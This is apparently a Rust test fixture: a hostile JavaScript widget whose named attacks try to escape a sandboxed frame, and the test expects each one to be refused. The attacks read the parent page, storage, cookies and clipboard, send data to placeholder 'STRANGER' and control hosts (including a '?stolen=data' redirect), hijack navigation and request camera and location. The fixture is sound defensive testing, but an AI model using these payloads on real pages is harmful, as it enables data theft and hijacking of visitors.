//! The attacks. Each answers what it got hold of; the test asserts that it was nothing.

pub const WIDGET: &str = r##"
<p id="said">hostile</p>
<script>
  const CONTROL = "@CONTROL@";
  const STRANGER = "@STRANGER@";
  const VICTIM = "@VICTIM@";
  const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const loads = (node, address) => new Promise((resolve) => {
    node.onload = () => resolve("loaded");
    node.onerror = () => resolve("refused");
    setTimeout(() => resolve("silent"), 1500);
    node.src = address;
    document.body.append(node);
  });
  const tag = (name) => document.createElement(name);

  // Read by the test: what each attack came to. "got: …" is a breach, whatever else a refusal.
  window.attacks = {
    "parent's document": () => "got: " + parent.document.body.innerHTML.length,
    "parent's session storage": () => "got: " + parent.sessionStorage.getItem("kandra.owner"),
    "parent's variables": () => "got: " + parent.kandraEarly,
    "parent's address": () => "got: " + parent.location.href,
    "own local storage": () => "got: " + localStorage.length,
    "own indexed database": () => new Promise((resolve, reject) => {
      const open = indexedDB.open("x");
      open.onsuccess = () => resolve("got: a database");
      open.onerror = () => reject(open.error);
    }),
    "cookies, read": () => "got: " + document.cookie,
    "cookies, written": () => { document.cookie = "a=1"; return "got: " + document.cookie; },
    "own origin": () => self.origin === "null" ? "opaque" : "got: " + self.origin,
    "control's API": async () => "got: " + (await fetch(CONTROL + "/api/status", { credentials: "include" })).status,
    "control's API without reading": async () => "got: " + (await fetch(CONTROL + "/api/requests", { method: "POST", mode: "no-cors", body: "{}" })).type,
    "control by beacon": async () => {
      const told = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => resolve("refused: " + event.violatedDirective), { once: true }));
      navigator.sendBeacon(CONTROL + "/api/requests", "{}");
      return Promise.race([told, later(1500).then(() => "got: a beacon")]);
    },
    "control by web socket": () => new Promise((resolve) => {
      const socket = new WebSocket(CONTROL.replace("http", "ws") + "/api/events");
      socket.onopen = () => resolve("got: a socket");
      socket.onerror = () => resolve("refused");
    }),
    "a stranger's server": async () => "got: " + (await fetch(STRANGER + "/x", { mode: "no-cors" })).type,
    "a stranger's image": async () => (await loads(new Image(), STRANGER + "/x.png")).replace("loaded", "got: an image"),
    "a stranger's script": async () => (await loads(tag("script"), STRANGER + "/x.js")).replace("loaded", "got: a script"),
    "control's script": async () => (await loads(tag("script"), CONTROL + "/assets/x/main.js")).replace("loaded", "got: a script"),
    "a stranger's frame": async () => {
      const told = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => resolve("refused: " + event.violatedDirective), { once: true }));
      loads(tag("iframe"), STRANGER + "/x.html");
      return Promise.race([told, later(1500).then(() => "got: a frame")]);
    },
    "another feature in a frame": async () => {
      const frame = tag("iframe");
      const told = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => resolve("refused: " + event.violatedDirective), { once: true }));
      loads(frame, VICTIM + "/widget");
      const way = await Promise.race([told, later(1500)]);
      return frame.contentDocument ? "got: " + frame.contentDocument.body?.innerHTML.length : (way ?? "opaque");
    },
    "another feature beside it": () => {
      const stolen = [];
      for (let index = 0; index < parent.frames.length; index += 1) {
        if (parent.frames[index] === window) continue;
        try { stolen.push(parent.frames[index].document.body.innerHTML.length); } catch { /* as it should be */ }
      }
      return stolen.length ? "got: " + stolen : "refused";
    },
    "a pop-up": () => window.open(STRANGER + "/popup") ? "got: a window" : "refused",
    "a pop-up by link": async () => {
      const link = Object.assign(tag("a"), { href: STRANGER + "/popup-link", target: "_blank" });
      document.body.append(link);
      link.click();
      return "see the test";
    },
    "alert": () => { const before = performance.now(); alert("x"); return performance.now() - before > 300 ? "got: a dialog" : "ignored"; },
    "confirm": () => confirm("x") ? "got: yes" : "ignored",
    "prompt": () => prompt("x") === null ? "ignored" : "got: an answer",
    "print": () => { print(); return "see the test"; },
    "a download": async () => {
      Object.assign(tag("a"), { href: "data:text/plain,x", download: "x.txt" }).click();
      return "see the test";
    },
    "a form to control": async () => {
      const form = Object.assign(tag("form"), { action: CONTROL + "/api/requests", method: "post" });
      document.body.append(form);
      const told = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => resolve("refused: " + event.violatedDirective), { once: true }));
      form.submit();
      return Promise.race([told, later(1500).then(() => "got: a form away")]);
    },
    "a form to a stranger": async () => {
      const form = Object.assign(tag("form"), { action: STRANGER + "/form", method: "post" });
      document.body.append(form);
      form.submit();
      return later(1500).then(() => "stayed");
    },
    "itself to a stranger": () => { location.href = STRANGER + "/self?stolen=data"; return later(1500).then(() => "stayed"); },
    "itself to control": () => { location.href = CONTROL + "/owner"; return later(1500).then(() => "stayed"); },
    "itself to a script's address": () => { location.href = "javascript:parent.breached=1"; return later(300).then(() => "stayed"); },
    "a form over the whole page": async () => {
      const form = Object.assign(tag("form"), { action: VICTIM + "/", method: "get", target: "_top" });
      document.body.append(form);
      form.submit();
      return "see the test";
    },
    "a service worker": async () => "got: " + (await navigator.serviceWorker.register(VICTIM + "/widget")).scope,
    "the visitor's camera": async () => "got: " + (await navigator.mediaDevices.getUserMedia({ video: true })).id,
    "the visitor's place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("got: a place"), reject)),
    "the clipboard": async () => "got: " + (await navigator.clipboard.readText()),
    "full screen": async () => { await document.documentElement.requestFullscreen(); return "got: the screen"; },
    "top navigation": () => { top.location = STRANGER + "/top"; return "see the test"; },
    "parent navigation by link": () => {
      const link = Object.assign(tag("a"), { href: STRANGER + "/top-link", target: "_top" });
      document.body.append(link);
      link.click();
      return "see the test";
    },
  };

  window.attack = async (name) => {
    try {
      return String(await Promise.race([attacks[name](), later(4000).then(() => "silent")]));
    } catch (error) {
      return "refused: " + error.name;
    }
  };
</script>
"##;
